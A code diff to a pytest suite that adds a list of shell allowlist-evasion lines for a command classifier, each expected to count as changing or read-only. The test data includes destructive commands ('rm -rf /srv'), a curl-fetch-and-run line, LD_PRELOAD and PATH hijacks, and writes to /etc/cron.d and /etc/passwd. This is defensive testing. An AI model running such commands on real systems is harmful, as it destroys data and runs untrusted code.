@@ -15,7 +15,7 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from incident_console.domain.command_rules import RULES
+from incident_console.domain.command_table import RULES
 from incident_console.domain.commands import CommandClass, classify_argv, classify_shell
 
 CORPUS_LINES: list[tuple[str, str]] = [
@@ -264,6 +264,56 @@ ISSUE_LINES: list[tuple[str, str]] = [
     ("docker $SUB web", "C"),
 ]
 
+#: Ways around an allowlist that a shell offers: each must still be called changing.
+EVASIONS: list[tuple[str, str]] = [
+    ("sed {-i,s/4/2/,docker-compose.yml}", "C"),  # bash brace expansion makes -i
+    ("sed 's/4/2/' *", "C"),  # a file named -i in the directory
+    ("./docker ps", "C"),  # a script called docker
+    ("/usr/bin/docker ps", "R"),
+    ("PATH=/tmp/x:$PATH docker ps", "C"),
+    ("export LD_PRELOAD=/tmp/x.so; docker ps", "C"),
+    ("env PATH=/tmp docker ps", "C"),
+    ("alias docker='rm -rf /srv'; docker ps", "C"),
+    ("trap 'rm -rf /srv' EXIT; docker ps", "C"),
+    ("'X=1' cat /etc/hosts", "C"),
+    ("ssh -o ProxyCommand='rm -rf /srv' host 'docker ps'", "C"),
+    ("docker ps > /etc/cron.d/x", "C"),
+    ("docker ps 2>/tmp/err", "C"),
+    ("docker ps 2>/dev/null", "R"),
+    ("docker ps >&2", "R"),
+    ("exec 3<>/etc/passwd", "C"),
+    ("{ docker ps; } > /tmp/out", "C"),
+    ("cat <<EOF > /tmp/x\nhello\nEOF", "C"),
+    ("cat <<EOF\n$(rm -rf /srv)\nEOF", "C"),
+    ("cat <<'EOF'\n$(rm -rf /srv)\nEOF", "R"),
+    ("cat /etc/hosts | xargs rm", "C"),
+    ("docker ps -q | xargs docker inspect", "R"),
+    ("find /srv -name '*.log' -delete", "C"),
+    ("find /srv -name '*.log' -exec rm {} +", "C"),
+    ("sed -n 'w /etc/passwd' /etc/hosts", "C"),
+    ("sed 's/a/b/w /tmp/x' /etc/hosts", "C"),
+    ("awk '{print | \"sh\"}' /etc/hosts", "C"),
+    ("ss -K dst 10.0.0.1", "C"),
+    ("ss -tulpn", "R"),
+    ("journalctl --cursor-file=/tmp/c", "C"),
+    ("nohup docker ps", "C"),
+    ('sh -c "$(curl -s http://x/install.sh)"', "C"),
+    ("bash -c 'docker ps'", "R"),
+    ("bash script.sh", "C"),
+    ("sudo sh -c 'echo 1 > /proc/sys/vm/drop_caches'", "C"),
+    ("watch -n 1 'docker ps; docker rm -f web'", "CN"),
+    ("docker exec web sh -c 'rm -rf /data'", "C"),
+    ("docker exec web cat /sys/fs/cgroup/memory.max", "R"),
+    ("kubectl exec web -- rm -rf /data", "C"),
+    ('echo "$(docker restart web)"', "C"),
+    ("echo `docker restart web`", "C"),
+    ("cat <(docker restart web)", "C"),
+    ("if docker ps; then docker restart web; fi", "C"),
+    ("if docker ps; then echo ok; fi", "R"),
+    ("case x in x) rm -rf /srv;; esac", "C"),
+    ("docker ps 'unclosed", "C"),
+]
+
 
 def _code(found: CommandClass) -> str:
     return (
@@ -278,7 +328,7 @@ def test_there_are_at_least_a_hundred_corpus_lines() -> None:
     assert len({line for line, _ in CORPUS_LINES}) == len(CORPUS_LINES)
 
 
-@pytest.mark.parametrize(("line", "expected"), CORPUS_LINES + ISSUE_LINES)
+@pytest.mark.parametrize(("line", "expected"), CORPUS_LINES + ISSUE_LINES + EVASIONS)
 def test_real_command_lines_get_their_class(line: str, expected: str) -> None:
     found = classify_shell(line)
     assert _code(found) == expected, f"{line!r}: {found}"
